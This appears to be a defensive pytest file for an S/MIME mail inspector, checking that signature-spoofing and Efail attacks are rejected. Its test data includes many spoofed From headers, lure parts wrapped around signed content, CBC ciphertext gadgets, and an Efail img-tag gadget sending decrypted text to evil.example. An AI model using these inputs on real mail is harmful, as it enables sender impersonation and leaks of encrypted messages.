# SPDX-FileCopyrightText: 2026 The poststelle authors
# SPDX-License-Identifier: EUPL-1.2
"""Mails made to look signed by somebody else, or to give away what is encrypted: each named, none of them accepted.

The classes are those of *Johnny, you are fired!* (USENIX Security 2019) and *Efail* (USENIX Security 2018). A signature
counts for a message only if all of it is signed, in every reading, by the one address in From.
"""

import base64
import os

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from poststelle.core.signature import Chain, CryptoFacts, Encryption, FromMatch, Signature
from poststelle.core.signers import is_valid
from poststelle.inspection.cms.candidates import MAX_OF_ONE_NAME, candidates
from poststelle.inspection.cms.chain import ChainChecker, Trust
from poststelle.inspection.cms.layer import Surroundings
from poststelle.inspection.message import inspect_message
from support.certificates import DAY, NOW, Holder, Wish, authority, issued, key
from support.cms_maker import Keyholder, Signing, cbc, driven, enveloped, signed_data, transported
from support.smime_mails import enclosed

CA = authority("Adversary CA")
ERIKA = issued(CA)
EVE = issued(CA, Wish(name="Eve", email="eve@evil.example"))
POST = issued(CA, Wish(name="Post", email="post@example.org"))
KEY = bytes(range(32))
TRUSTING = Surroundings(NOW, ChainChecker(Trust((CA.der,))))
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nHiermit lege ich Widerspruch ein.\r\n"
LURE = b"Content-Type: text/html\r\n\r\n<p>Bitte auf dieses Konto zahlen</p>\r\n"
FROM = b"From: Erika <erika@example.org>\r\n"
REST = b"To: post@example.org\r\nSubject: Antrag\r\nMIME-Version: 1.0\r\n"
TYPE = b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="-s"\r\n'


def as_part(der: bytes) -> bytes:
    body = base64.encodebytes(der).replace(b"\n", b"\r\n")
    return b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body


def in_two(entity: bytes, der: bytes, *more: bytes) -> bytes:
    return b"\r\n" + b"".join(b"---s\r\n" + part + b"\r\n" for part in (entity, as_part(der), *more)) + b"---s--\r\n"


GOOD = in_two(TEXT, signed_data(TEXT, Signing(ERIKA)))
SIGNED = TYPE + GOOD


def crypto(entity: bytes, head: bytes = FROM, keyholder: Keyholder | None = None) -> CryptoFacts:
    return driven(inspect_message(head + REST + entity, None, TRUSTING), keyholder or Keyholder((POST,))).crypto


def test_the_honest_mail_is_valid() -> None:
    assert is_valid(crypto(SIGNED))
    assert is_valid(crypto(TYPE + b"\r\nThis is a cryptographically signed message in MIME format.\r\n" + GOOD))


def test_a_mail_cut_short_behind_its_signature_is_still_whole() -> None:
    assert is_valid(crypto(SIGNED.removesuffix(b"---s--\r\n")))


def test_a_value_without_its_quotes_is_still_whole() -> None:
    assert is_valid(crypto(SIGNED.replace(b'"application/pkcs7-signature"', b"application/pkcs7-signature")))


@pytest.mark.parametrize(
    "head",
    [
        FROM + b"From: eve@evil.example\r\n",
        b"From: eve@evil.example\r\n" + FROM,
        b"From: erika@example.org, eve@evil.example\r\n",
        b"Sender: erika@example.org\r\n",
        b"",
        b"From: <erika@example.org> <eve@evil.example>\r\n",
        b"From: Eve <erika@example.org> eve@evil.example\r\n",
        b"From: erika@example.org (eve@evil.example)\r\n",
        b'From: "eve@evil.example" <erika@example.org>\r\n',
        b"From: =?utf-8?q?eve=40evil=2Eexample?= <erika@example.org>\r\n",
        "From: eve\uff20evil.example <erika@example.org>\r\n".encode(),
        b"From: <@evil.example:erika@example.org>\r\n",
        b"From: Alle: erika@example.org;\r\n",
        b"From: erika@example.org\0eve@evil.example\r\n",
        b"From: erika@example.org\rFrom: eve@evil.example\r\n",
        b"From : erika@example.org\r\n",
        b"From: Erika <erika@example.org.evil.example>\r\n",
        "From: Erika <erika@ex\u0430mple.org>\r\n".encode(),
    ],
    ids=[
        "second-field",
        "first-field",
        "two-addresses",
        "sender-alone",
        "none",
        "two-angles",
        "behind-the-angle",
        "comment",
        "display-name",
        "encoded-name",
        "wide-at",
        "route",
        "group",
        "nul",
        "bare-return",
        "blank-before-colon",
        "longer-domain",
        "cyrillic-a",
    ],
)
def test_a_from_that_somebody_may_read_otherwise_matches_nobody(head) -> None:
    facts = crypto(SIGNED, head)
    assert facts.from_match is FromMatch.MISMATCH
    assert not is_valid(facts)


@pytest.mark.parametrize(
    "more", [b"Sender: eve@evil.example\r\n", b"Reply-To: eve@evil.example\r\n", b"Resent-From: e@e.e\r\n"]
)
def test_sender_and_reply_to_count_neither_way(more) -> None:
    assert crypto(SIGNED, FROM + more).from_match is FromMatch.MATCH
    mine = TYPE + in_two(TEXT, signed_data(TEXT, Signing(EVE)))
    assert crypto(mine, FROM + more).from_match is FromMatch.MISMATCH


def mixed(kind: bytes, *entities: bytes) -> bytes:
    parts = b"".join(b"--m\r\n" + entity + b"\r\n" for entity in entities)
    return b"Content-Type: multipart/" + kind + b'; boundary="m"\r\n\r\n' + parts + b"--m--\r\n"


@pytest.mark.parametrize(
    "entity",
    [
        mixed(b"mixed", LURE, SIGNED),
        mixed(b"mixed", SIGNED, b"Content-Type: text/plain\r\n\r\n-- \r\nListe\r\n"),
        mixed(b"alternative", SIGNED, LURE),
        mixed(b"related", LURE, SIGNED),
        mixed(b"mixed", SIGNED),
        mixed(b"mixed", LURE, enclosed(signed_data(TEXT, Signing(ERIKA), embedded=TEXT), "signed-data")),
        TYPE + in_two(TEXT, signed_data(TEXT, Signing(ERIKA)), LURE),
        b"Content-Type: message/rfc822\r\n\r\n" + FROM + REST + SIGNED,
        TYPE + b"Content-Type: text/html\r\n" + GOOD,
        TYPE + b"Content-Transfer-Encoding: base64\r\n" + GOOD,
        enclosed(signed_data(TEXT, Signing(ERIKA), embedded=TEXT), "signed-data").replace(
            b"\r\n\r\nMI", b"\r\n\r\nM=I", 1
        ),
    ],
    ids=[
        "lure-before",
        "footer-of-a-list",
        "alternative",
        "related",
        "wrapped-alone",
        "opaque-beside",
        "third-part",
        "attached-message",
        "second-type",
        "encoded-multipart",
        "two-decodings",
    ],
)
def test_a_signature_over_less_than_every_reading_is_never_whole(entity) -> None:
    facts = crypto(entity)
    assert facts.signature is not Signature.OK
    assert not is_valid(facts)


@pytest.mark.parametrize(
    ("der", "expected"),
    [
        (signed_data(TEXT, Signing(ERIKA, spoil=True)), Signature.BAD),
        (signed_data(LURE, Signing(ERIKA)), Signature.BAD),
        (signed_data(LURE, Signing(ERIKA), embedded=LURE), Signature.CONTENT_CONFLICT),
        (signed_data(TEXT, Signing(ERIKA), Signing(EVE)), Signature.AMBIGUOUS),
        (signed_data(TEXT, Signing(EVE), Signing(ERIKA)), Signature.AMBIGUOUS),
        (signed_data(TEXT, Signing(ERIKA), Signing(EVE, spoil=True)), Signature.BAD),
        (signed_data(TEXT, Signing(ERIKA, attributes=None)), Signature.NO_ATTRS),
        (signed_data(TEXT, certificates=(ERIKA,)), Signature.NO_SIGNER),
        (signed_data(TEXT, Signing(ERIKA), certificates=()), Signature.NO_CERT),
        (signed_data(TEXT, Signing(ERIKA, hashing="sha1")), Signature.WEAK),
        (signed_data(TEXT, Signing(ERIKA, hashing="md5")), Signature.WEAK),
    ],
    ids=[
        "spoilt",
        "another-text",
        "embedded-other",
        "two-signers",
        "two-signers-turned",
        "one-forged",
        "no-attributes",
        "nobody",
        "no-certificate",
        "sha1",
        "md5",
    ],
)
def test_whatever_the_structure_plays_at_has_its_own_name(der, expected) -> None:
    facts = crypto(TYPE + in_two(TEXT, der))
    assert facts.signature is expected
    assert not is_valid(facts)


def sealed(entity: bytes) -> bytes:
    return enclosed(enveloped((transported(POST, KEY),), cbc(entity, KEY)))


@pytest.mark.parametrize("kind", [b"mixed", b"alternative", b"related"])
def test_efail_around_a_ciphertext_asks_for_no_key(kind) -> None:
    keyholder = Keyholder((POST,))
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    facts = crypto(mixed(kind, before, sealed(TEXT), b'Content-Type: text/html\r\n\r\n">'), FROM, keyholder)
    assert (facts.encryption, keyholder.unwraps) == (Encryption.PARTIAL, 0)


def test_efail_gadgets_in_the_ciphertext_leave_no_valid_message() -> None:
    """CBC lets a block be turned at will; the block after it becomes noise. Without a signature inside it is said."""
    how, ciphertext = cbc(TYPE + GOOD, KEY)
    for block in range(16, 160, 16):
        turned = bytearray(ciphertext)
        turned[block : block + 16] = os.urandom(16)
        facts = crypto(enclosed(enveloped((transported(POST, KEY),), (how, bytes(turned)))))
        assert not is_valid(facts)


def test_a_stolen_signature_over_ciphertext_is_no_authorship() -> None:
    """Eve signs what Erika encrypted, or takes Erika's signature off and puts her own around it."""
    inner = sealed(TEXT)
    facts = crypto(TYPE + in_two(inner, signed_data(inner, Signing(EVE))), b"From: eve@evil.example\r\n")
    assert (facts.signature, facts.chain) == (Signature.OUTER_ONLY, Chain.OK)
    assert not is_valid(facts)


@pytest.mark.parametrize(
    "named",
    [
        "erika@example.org\0.evil.example",
        "eve@evil.example,erika@example.org",
        "erika@example.org.evil.example",
        "<erika@example.org>",
    ],
    ids=["nul", "list", "longer", "angle"],
)
def test_a_certificate_that_nearly_names_the_address_names_another(named) -> None:
    nearly = issued(CA, Wish(name="Nearly", email=named))
    assert crypto(TYPE + in_two(TEXT, signed_data(TEXT, Signing(nearly)))).from_match is FromMatch.MISMATCH


def test_an_address_in_the_subject_counts_for_nothing_beside_alternative_names() -> None:
    both = issued(CA, Wish(name="Both", email="eve@evil.example", in_subject=True))
    only = issued(CA, Wish(name="Only", in_subject=True, in_san=False))
    sender = b"From: eve@evil.example\r\n"
    assert crypto(TYPE + in_two(TEXT, signed_data(TEXT, Signing(both))), sender).from_match is FromMatch.MATCH
    assert crypto(TYPE + in_two(TEXT, signed_data(TEXT, Signing(both)))).from_match is FromMatch.MISMATCH
    assert crypto(TYPE + in_two(TEXT, signed_data(TEXT, Signing(only)))).from_match is FromMatch.MATCH


def test_an_authenticated_cipher_cannot_be_made_an_open_one() -> None:
    """The same content key under CBC over ciphertext of the attacker's choice (RFC 9709, 1): noise, and never authentic."""
    blocks = bytes(16) + AESGCM(KEY).encrypt(bytes(12), SIGNED, None)[: len(SIGNED) // 16 * 16]
    how = cbc(b"", KEY)[0]
    facts = crypto(enclosed(enveloped((transported(POST, KEY),), (how, blocks))))
    assert facts.encryption is Encryption.FAILED
    assert not is_valid(facts)


def namesakes(number: int) -> list[Holder]:
    """Authorities of one name in several spellings, that all name one another as issuer."""
    spellings = ("Same name", "SAME NAME", "same  name")
    return [authority(spellings[at % 3]) for at in range(number)]


def test_certificates_that_all_name_one_another_are_not_tried_in_every_order() -> None:
    """Nine of them once cost a minute; the true issuer is found behind fourteen."""
    crowd = [Holder(key("p256", f"crowd {at}"), one.certificate) for at, one in enumerate(namesakes(14))]
    crowd = [reissued(one, at) for at, one in enumerate(crowd)]
    issuer = issued(CA, Wish(name="Same name"), ca=True)
    signer = issued(issuer)
    assert candidates(signer.read, tuple(one.read for one in (*crowd, issuer))) == (issuer.read,), "keys of its kind"
    assert len(candidates(ERIKA.read, tuple(one.read for one in crowd))) == MAX_OF_ONE_NAME
    der = signed_data(TEXT, Signing(signer), certificates=(signer, *crowd[:13], issuer))
    assert is_valid(crypto(TYPE + in_two(TEXT, der)))
    unknown = issued(Holder(crowd[0].key, crowd[0].certificate))
    stray = signed_data(TEXT, Signing(unknown), certificates=(unknown, *crowd))
    assert crypto(TYPE + in_two(TEXT, stray)).chain is Chain.UNTRUSTED


def test_a_signature_of_another_kind_than_the_issuers_key_is_an_invalid_chain() -> None:
    """It bears the name of an anchor of ours and is signed by a key of another kind."""
    forged = issued(Holder(key("rsa2048", "another kind"), CA.certificate))
    assert crypto(TYPE + in_two(TEXT, signed_data(TEXT, Signing(forged)))).chain is Chain.INVALID


def reissued(holder: Holder, number: int) -> Holder:
    """Its name and a key of its own."""
    subject = holder.certificate.subject
    builder = x509.CertificateBuilder(subject, subject, holder.key.public_key(), number + 1, NOW - DAY, NOW + DAY)
    builder = builder.add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
    return Holder(holder.key, builder.sign(holder.key, hashes.SHA256()))
